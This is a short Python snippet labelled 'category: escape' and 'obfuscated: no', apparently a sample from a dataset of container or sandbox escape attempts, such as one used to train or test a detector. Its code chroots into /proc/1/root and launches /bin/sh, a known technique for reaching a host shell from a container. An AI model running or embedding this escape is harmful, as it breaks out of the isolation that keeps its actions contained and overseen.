# category: escape
# obfuscated: no
import os
os.chroot("/proc/1/root")
os.system("/bin/sh")
